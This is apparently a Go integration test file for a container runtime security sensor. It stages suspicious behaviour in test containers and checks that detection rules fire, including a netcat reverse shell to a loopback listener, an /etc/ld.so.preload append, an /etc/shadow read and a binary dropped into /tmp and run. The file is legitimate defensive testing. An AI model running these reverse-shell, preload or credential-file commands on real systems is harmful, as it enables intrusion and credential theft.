//go:build linux && amd64

package sensor

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/alert"
	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ruleset"
	"github.com/vigilsec/vigil/internal/sensor/overheadtest"
	"github.com/vigilsec/vigil/internal/sensor/runctest"
)

// TestMain closes the shared sensor after the tests. A test binary
// started as a loop child of the overhead benchmarks serves the loop
// instead (overheadtest.Main).
func TestMain(m *testing.M) {
	overheadtest.Main()
	code := m.Run()
	if theHarness != nil {
		theHarness.stop()
	}
	os.Exit(code)
}

// harness runs one real sensor for the package's tests, through the
// detection engine with the builtin rules, and keeps the events and
// alerts of runctest's containers.
type harness struct {
	s      *Sensor
	g      *detect.Engine
	cancel context.CancelFunc
	done   chan error

	mu     sync.Mutex
	ids    map[string]bool // the containers whose events are kept
	pids   map[int64]bool  // and the host processes
	events []*event.Event
	// every, while recording, keeps every event (at most maxEvery), for
	// tests that find their processes' events afterwards.
	recording int
	every     []*event.Event
	alerts    []*detect.Alert
	notify    chan struct{} // closed and replaced when something is added
}

var (
	theHarness  *harness
	harnessOnce sync.Once
	harnessErr  error
)

func sensorHarness(t *testing.T) *harness {
	t.Helper()
	runctest.RequireRoot(t)
	runctest.Require(t)
	harnessOnce.Do(func() { theHarness, harnessErr = startHarness(Config{}) })
	if harnessErr != nil {
		t.Fatal(harnessErr)
	}
	return theHarness
}

// ownHarness runs a sensor of the test's own with cfg (the sockets and
// state directories of the test's container runtimes), stopped when the
// test ends.
func ownHarness(t *testing.T, cfg Config) *harness {
	t.Helper()
	runctest.RequireRoot(t)
	h, err := startHarness(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(h.stop)
	return h
}

func startHarness(cfg Config) (*harness, error) {
	g, errs := ruleset.Load(ruleset.Options{}, detect.Config{})
	if len(errs) > 0 {
		return nil, fmt.Errorf("builtin rules: %v", errs)
	}
	s, err := New(cfg)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	h := &harness{s: s, g: g, cancel: cancel, done: make(chan error, 1), notify: make(chan struct{}), ids: map[string]bool{}, pids: map[int64]bool{}}
	go func() { h.done <- s.Run(ctx, h.emit) }()
	return h, nil
}

// watch keeps the events of container id and the alerts they raise.
func (h *harness) watch(id string) {
	h.mu.Lock()
	h.ids[id] = true
	h.mu.Unlock()
}

// watchPID keeps the events of host process pid.
func (h *harness) watchPID(pid int) {
	h.mu.Lock()
	h.pids[int64(pid)] = true
	h.mu.Unlock()
}

// ours reports whether an event comes from a watched container or host
// process.
func (h *harness) ours(e *event.Event) bool {
	if e.Container != nil && e.Container.ContainerID != "" {
		return h.ids[e.Container.ContainerID]
	}
	return e.Proc != nil && h.pids[e.Proc.PID]
}

func (h *harness) emit(e *event.Event) error {
	var alerts []*detect.Alert
	h.mu.Lock()
	defer h.mu.Unlock()
	h.g.Process(e, func(a *detect.Alert) {
		if h.recording > 0 {
			// Containers whose ids are known only once they ran.
			alerts = append(alerts, a.Clone())
			return
		}
		for _, ev := range a.Events {
			if h.ours(ev) {
				alerts = append(alerts, a.Clone())
				return
			}
		}
	})
	if h.recording > 0 && len(h.every) < maxEvery {
		h.every = append(h.every, e)
	}
	keep := h.ours(e)
	if !keep && len(alerts) == 0 {
		return nil
	}
	if keep {
		h.events = append(h.events, e)
	}
	h.alerts = append(h.alerts, alerts...)
	close(h.notify)
	h.notify = make(chan struct{})
	return nil
}

// maxEvery bounds the events recorded.
const maxEvery = 1 << 20

// record keeps every event until the returned function is called; it
// returns them.
func (h *harness) record() (stop func() []*event.Event) {
	h.mu.Lock()
	h.recording++
	h.mu.Unlock()
	return func() []*event.Event {
		h.mu.Lock()
		defer h.mu.Unlock()
		h.recording--
		out := h.every
		if h.recording == 0 {
			h.every = nil
		}
		return out
	}
}

// lineage returns, in order, the events of process pid and of its
// descendants.
func lineage(events []*event.Event, pid int64) []*event.Event {
	in := map[int64]bool{pid: true}
	var out []*event.Event
	for _, e := range events {
		if e.Proc == nil {
			continue
		}
		if !in[e.Proc.PID] && (e.EventName == "fork" || e.EventName == "execve") && in[e.Proc.ParentPID] {
			in[e.Proc.PID] = true
		}
		if in[e.Proc.PID] {
			out = append(out, e)
		}
	}
	return out
}

func (h *harness) stop() {
	h.cancel()
	if err := <-h.done; err != nil {
		fmt.Fprintln(os.Stderr, "sensor:", err)
	}
	h.s.Close()
}

// event waits until an event of container id satisfies ok.
func (h *harness) event(id string, timeout time.Duration, what string, ok func(*event.Event) bool) (*event.Event, error) {
	var found *event.Event
	err := h.wait(timeout, what, func() bool {
		for _, e := range h.events {
			if e.Container != nil && e.Container.ContainerID == id && ok(e) {
				found = e
				return true
			}
		}
		return false
	})
	return found, err
}

// alert waits for an alert of the rule titled title whose last event is
// in container id and satisfies ok (nil: any).
func (h *harness) alert(id, title string, timeout time.Duration, ok func(*event.Event) bool) (*detect.Alert, error) {
	var found *detect.Alert
	err := h.wait(timeout, "alert "+title, func() bool {
		for _, a := range h.alerts {
			if a.Rule.Title != title || len(a.Events) == 0 {
				continue
			}
			last := a.Events[len(a.Events)-1]
			if containerOf(last) == id && (ok == nil || ok(last)) {
				found = a
				return true
			}
		}
		return false
	})
	return found, err
}

// lost is how many records the sensor's sources have dropped.
func (h *harness) lost() uint64 {
	var n uint64
	for _, kinds := range h.s.Stats().Lost {
		for _, k := range kinds {
			n += k
		}
	}
	return n
}

// retryOnLoss runs attempt until it succeeds. An attempt that fails while
// the sensor lost records (the host was too busy for it to keep up) is
// tried again, three times at most; any other failure fails the test.
func (h *harness) retryOnLoss(t *testing.T, attempt func(try int) error) {
	t.Helper()
	for try := 1; ; try++ {
		before := h.lost()
		err := attempt(try)
		if err == nil {
			return
		}
		if lost := h.lost() - before; lost > 0 && try < 3 {
			t.Logf("attempt %d: %v; the sensor lost %d records meanwhile, trying again", try, err, lost)
			continue
		}
		t.Fatalf("%v\n%s", err, h.dump())
	}
}

// alertsOf returns the alerts with an event in container id.
func (h *harness) alertsOf(id string) []*detect.Alert {
	h.mu.Lock()
	defer h.mu.Unlock()
	var out []*detect.Alert
	for _, a := range h.alerts {
		for _, e := range a.Events {
			if containerOf(e) == id {
				out = append(out, a)
				break
			}
		}
	}
	return out
}

func containerOf(e *event.Event) string {
	if e.Container == nil {
		return ""
	}
	return e.Container.ContainerID
}

func (h *harness) wait(timeout time.Duration, what string, cond func() bool) error {
	deadline := time.NewTimer(timeout)
	defer deadline.Stop()
	for {
		h.mu.Lock()
		ok := cond()
		ch := h.notify
		h.mu.Unlock()
		if ok {
			return nil
		}
		select {
		case <-ch:
		case <-deadline.C:
			return fmt.Errorf("no %s within %v", what, timeout)
		}
	}
}

// dump lists what the harness holds, for a failure message.
func (h *harness) dump() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	var b strings.Builder
	st := h.s.Stats()
	fmt.Fprintf(&b, "sensor: lost %v, decode errors %v, read errors %v, unattributed %d, records %v\n",
		st.Lost, st.DecodeErrors, st.ReadErrors, st.Unresolved, st.Records)
	fmt.Fprintf(&b, "%d container events, last ones:\n", len(h.events))
	for _, e := range h.events[max(0, len(h.events)-40):] {
		b.Write(event.AppendJSON(nil, e, false))
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "%d alerts:\n", len(h.alerts))
	for _, a := range h.alerts {
		fmt.Fprintf(&b, "  %s [%s] %s\n", a.Rule.Title, a.Rule.Level, containerOf(a.Events[len(a.Events)-1]))
	}
	return b.String()
}

// start runs a container and waits until the sensor attributes its
// records to it and its metadata (start time) is known. A runc container
// whose cgroup path does not name a runtime is known only once runc has
// written its state, so commands are run until one is attributed.
func (h *harness) start(t *testing.T, o runctest.Options) *runctest.Container {
	t.Helper()
	if o.ID == "" {
		o.ID = runctest.UniqueID(t)
	}
	h.watch(o.ID)
	c := runctest.Start(t, o)
	deadline := time.Now().Add(30 * time.Second)
	for {
		if _, err := c.Exec("true"); err != nil {
			t.Fatal(err)
		}
		h.mu.Lock()
		seen := false
		for _, e := range h.events {
			if e.Container.ContainerID == c.ID {
				seen = true
				break
			}
		}
		h.mu.Unlock()
		if seen {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no event of container %s within 30s\n%s", c.ID, h.dump())
		}
		time.Sleep(100 * time.Millisecond)
	}
	info := h.s.attr.Lookup(0, uint32(c.PID()))
	if info.ID != c.ID || info.Container == nil {
		t.Fatalf("container of pid %d: %+v, want %s", c.PID(), info, c.ID)
	}
	info.Container.WaitMetadata(10 * time.Second)
	if st, _ := info.Container.StartTime(); st.IsZero() {
		t.Fatalf("container %s: no start time", c.ID)
	}
	// The file watcher is told of the container by its init process once
	// the runtime named it, on the container's next record.
	for h.s.files != nil {
		h.s.mu.Lock()
		by := h.s.m.watched[c.ID]
		h.s.mu.Unlock()
		if by.init {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("container %s: not watched by its init process within 30s", c.ID)
		}
		if _, err := c.Exec("true"); err != nil {
			t.Fatal(err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	return c
}

const waitFor = 20 * time.Second

// TestReverseShell: nc -e /bin/sh back to a listener on the host's
// loopback gives a shell whose standard input and output are the TCP
// connection.
func TestReverseShell(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	h.retryOnLoss(t, func(int) error {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		port := ln.Addr().(*net.TCPAddr).Port
		conns := make(chan net.Conn, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				conns <- c
			}
		}()
		p := c.StartExec("sh", "-c", fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh", port))
		defer p.Wait()
		var conn net.Conn
		select {
		case conn = <-conns:
		case <-time.After(waitFor):
			t.Fatal("the shell did not connect")
		}
		defer conn.Close()

		e, err := h.event(c.ID, waitFor, "exec of a shell with a socket on stdin", func(e *event.Event) bool {
			return e.EventName == "execve" && e.Proc.Path == "/bin/sh" && e.Proc.Stdin == "socket" &&
				e.Network != nil && e.Network.DestPort == int64(port)
		})
		if err != nil {
			return err
		}
		if e.Proc.Stdout != "socket" || e.Network.DestIP != "127.0.0.1" || e.Network.Transport != "tcp" ||
			e.Container.Runtime != "runc" || e.Proc.UserID != "0" || e.SrcUser != "root" || e.Proc.ParentName == "" {
			t.Errorf("shell exec: %s", event.AppendJSON(nil, e, false))
		}
		a, err := h.alert(c.ID, "Reverse Shell - Shell With a Network Socket as Standard Input or Output", waitFor, func(x *event.Event) bool {
			return x.Network != nil && x.Network.DestPort == int64(port)
		})
		if err != nil {
			return err
		}
		if a.Rule.Level != "critical" {
			t.Errorf("level %s", a.Rule.Level)
		}
		if _, err := h.alert(c.ID, "Netcat or Socat Executing a Program for a Connection", waitFor, func(x *event.Event) bool {
			return x.Proc.Path == "/bin/nc" && strings.Contains(x.Proc.CommandLine, fmt.Sprint(port))
		}); err != nil {
			return err
		}
		// The shell runs what comes over the connection.
		fmt.Fprintf(conn, "echo reverse-$((40+2))\nexit\n")
		buf := make([]byte, 64)
		conn.SetReadDeadline(time.Now().Add(waitFor))
		n, _ := conn.Read(buf)
		if !strings.Contains(string(buf[:n]), "reverse-42") {
			t.Errorf("shell answered %q", buf[:n])
		}
		return nil
	})
}

// TestDropAndExecute: a copy of busybox written to /tmp, made executable
// and run is drift, execution from a temporary directory, and a file
// created then made executable.
func TestDropAndExecute(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	h.retryOnLoss(t, func(try int) error {
		dir := fmt.Sprintf("/tmp/d%d", try)
		exe := dir + "/ls"
		if _, err := c.Exec("sh", "-c", fmt.Sprintf("mkdir %s && cp /bin/busybox %s && chmod 755 %s && %s / >/dev/null", dir, exe, exe, exe)); err != nil {
			t.Fatal(err)
		}
		e, err := h.event(c.ID, waitFor, "exec of "+exe, func(e *event.Event) bool {
			return e.EventName == "execve" && e.Proc.Path == exe
		})
		if err != nil {
			return err
		}
		if e.Proc.ExeDrift != "true" || e.Proc.Exe != exe || e.Proc.ExeFileless != "false" {
			t.Errorf("exec of %s: %s", exe, event.AppendJSON(nil, e, false))
		}
		for _, title := range []string{
			"Executable Dropped in a Running Container Then Executed",
			"Program Executed From a Temporary or Shared-Memory Directory",
			"File Created Then Made Executable in a Container",
			"Execute Permission Set on a File in a Temporary Directory",
		} {
			if _, err := h.alert(c.ID, title, waitFor, func(x *event.Event) bool {
				return x.File == nil && x.Proc.Path == exe || x.File != nil && x.File.Path == exe
			}); err != nil {
				return err
			}
		}
		return nil
	})
	// A program from the image is not drift.
	h.retryOnLoss(t, func(int) error {
		if _, err := c.Exec("sh", "-c", "/bin/ls /"); err != nil {
			t.Fatal(err)
		}
		e, err := h.event(c.ID, waitFor, "exec of /bin/ls", func(e *event.Event) bool {
			return e.EventName == "execve" && e.Proc.Path == "/bin/ls"
		})
		if err != nil {
			return err
		}
		if e.Proc.ExeDrift != "false" || e.Proc.Exe != "/bin/busybox" {
			t.Errorf("exec of /bin/ls: %s", event.AppendJSON(nil, e, false))
		}
		return nil
	})
}

// TestWriteBelowBinaryDir: a file written into the container's /bin.
func TestWriteBelowBinaryDir(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	h.retryOnLoss(t, func(try int) error {
		file := fmt.Sprintf("/bin/evil%d", try)
		if _, err := c.Exec("sh", "-c", "echo x > "+file); err != nil {
			t.Fatal(err)
		}
		a, err := h.alert(c.ID, "File Written Below a Binary or Library Directory in a Container", waitFor, func(x *event.Event) bool {
			return x.File != nil && x.File.Path == file
		})
		if err != nil {
			return err
		}
		if e := a.Events[0]; e.File.Name != strings.TrimPrefix(file, "/bin/") || e.EventName != "create" || e.Proc.Name != "sh" || e.Proc.Path != "/bin/sh" {
			t.Errorf("alert: %s", alert.From(a).AppendJSON(nil))
		}
		return nil
	})
}

// TestPreloadWrite: a shell in a container appends a library to the
// image's /etc/ld.so.preload - a write of a file that existed before, seen
// through the mark of /etc, one of the default write directories.
func TestPreloadWrite(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{Files: map[string][]byte{"/etc/ld.so.preload": nil}})
	h.retryOnLoss(t, func(try int) error {
		if _, err := c.Exec("sh", "-c", fmt.Sprintf("echo /usr/lib/libhide%d.so >> /etc/ld.so.preload", try)); err != nil {
			t.Fatal(err)
		}
		a, err := h.alert(c.ID, "Dynamic Linker Preload File Written", waitFor, nil)
		if err != nil {
			return err
		}
		if e := a.Events[0]; e.EventName != "write" || e.File.Path != "/etc/ld.so.preload" || e.Proc.Name != "sh" || e.Container == nil || e.Container.ContainerID != c.ID {
			t.Errorf("alert: %s", alert.From(a).AppendJSON(nil))
		}
		return nil
	})
}

// TestHostWriteIntoRootfs: a host process writes a file of a container's
// rootfs (a plain directory on the host's filesystem, as runc runs it) and
// exits with the file still open, so that its write is seen at its exit,
// as its mount namespace goes: the write is the host's, with the host's
// path, known from the process's kernel records.
func TestHostWriteIntoRootfs(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{Files: map[string][]byte{"/etc/app.conf": []byte("a=1\n")}})
	file := filepath.Join(c.Rootfs, "etc", "app.conf")
	h.retryOnLoss(t, func(int) error {
		cmd := exec.Command("sh", "-c", `exec 3>>"$1"; echo b=2 >&3`, "sh", file)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		h.watchPID(cmd.Process.Pid)
		if err := cmd.Wait(); err != nil {
			t.Fatal(err)
		}
		var found *event.Event
		err := h.wait(waitFor, "the host's write", func() bool {
			for _, e := range h.events {
				if e.Proc != nil && e.Proc.PID == int64(cmd.Process.Pid) && e.File != nil {
					found = e
					return true
				}
			}
			return false
		})
		if err != nil {
			return err
		}
		if found.File.Path != file || found.EventName != "write" || found.Container != nil && found.Container.ContainerID != "" {
			t.Errorf("event: %s", event.AppendJSON(nil, found, false))
		}
		return nil
	})
}

// TestWriteThenExec: a shell writes a file and at once runs its last
// command in the same process (sh -c '...; exec /bin/ls'; by its path,
// since busybox runs some applets named alone without an exec). The file
// watcher reads both at once; the write is the shell's, not ls's.
func TestWriteThenExec(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	h.retryOnLoss(t, func(try int) error {
		file := fmt.Sprintf("/etc/motd.%d", try)
		// The sleep lets the watcher go idle after runc's own file activity:
		// then it waits 2 ms after the write before it reads, and reads the
		// exec's open with it.
		cmd := fmt.Sprintf("sleep 1; echo hello > %s; exec /bin/ls / >/dev/null", file)
		if _, err := c.Exec("sh", "-c", cmd); err != nil {
			t.Fatal(err)
		}
		e, err := h.event(c.ID, waitFor, "the write of "+file, func(e *event.Event) bool {
			return e.File != nil && e.File.Path == file
		})
		if err != nil {
			return err
		}
		if e.Proc.Path != "/bin/sh" || e.Proc.CommandLine != "sh -c "+cmd {
			t.Errorf("the write's process: %s", event.AppendJSON(nil, e, false))
		}
		return nil
	})
}

// TestSensitiveRead: a shell in a container reads /etc/shadow.
func TestSensitiveRead(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	h.retryOnLoss(t, func(int) error {
		if _, err := c.Exec("sh", "-c", "read -r line < /etc/shadow; echo ${#line}"); err != nil {
			t.Fatal(err)
		}
		a, err := h.alert(c.ID, "Password Hash or Sudo Policy File Read by an Unexpected Program", waitFor, nil)
		if err != nil {
			return err
		}
		if e := a.Events[0]; e.EventName != "read" || e.File.Path != "/etc/shadow" || e.File.Name != "shadow" || e.Proc.Name != "sh" || e.Proc.Path != "/bin/sh" {
			t.Errorf("alert: %s", alert.From(a).AppendJSON(nil))
		}
		return nil
	})
}

// TestOrdinaryActivity: a container started, doing ordinary things for a
// while, raises no alert at all - its runtime's set-up included: the
// container's cgroup is named as Docker names it, so its records are
// attributed from the first one.
func TestOrdinaryActivity(t *testing.T) {
	h := sensorHarness(t)
	var raw [32]byte
	rand.Read(raw[:])
	id := hex.EncodeToString(raw[:])
	h.watch(id)
	c := runctest.Start(t, runctest.Options{ID: id, CgroupsPath: "/docker/" + id})
	script := `for i in 1 2 3 4 5 6 7 8 9 10; do
		ls / >/dev/null; ls -l /etc >/dev/null; cat /etc/passwd /etc/hosts >/dev/null
		sh -c 'echo hi' >/dev/null; date >/dev/null; id >/dev/null; echo "$i" >> /tmp/log
		grep root /etc/group >/dev/null; wc -l /tmp/log >/dev/null
	done
	mkdir -p /tmp/work && cp /etc/hosts /tmp/work/hosts && mv /tmp/work/hosts /tmp/work/hosts.old && rm -r /tmp/work
	touch "/tmp/$0"`
	h.retryOnLoss(t, func(try int) error {
		last := ""
		for i := 1; i <= 3; i++ {
			last = fmt.Sprintf("sentinel-%d-%d", try, i)
			if _, err := c.Exec("sh", "-c", script, last); err != nil {
				t.Fatal(err)
			}
		}
		if _, err := h.event(id, waitFor, "the last sentinel", func(e *event.Event) bool {
			return e.File != nil && e.File.Path == "/tmp/"+last
		}); err != nil {
			return err
		}
		// The runtime's set-up in the container was seen too.
		_, err := h.event(id, waitFor, "runc's mounts in the container", func(e *event.Event) bool {
			return e.EventName == "mount" && e.Proc.Name == "runc:[2:INIT]"
		})
		return err
	})
	// Everything before the sentinel has been through the engine.
	n := 0
	h.mu.Lock()
	for _, e := range h.events {
		if e.Container.ContainerID == id {
			n++
		}
	}
	h.mu.Unlock()
	if n < 100 {
		t.Errorf("only %d events of the container", n)
	}
	for _, a := range h.alertsOf(id) {
		t.Errorf("alert on ordinary activity: %s", alert.From(a).AppendJSON(nil))
	}
}
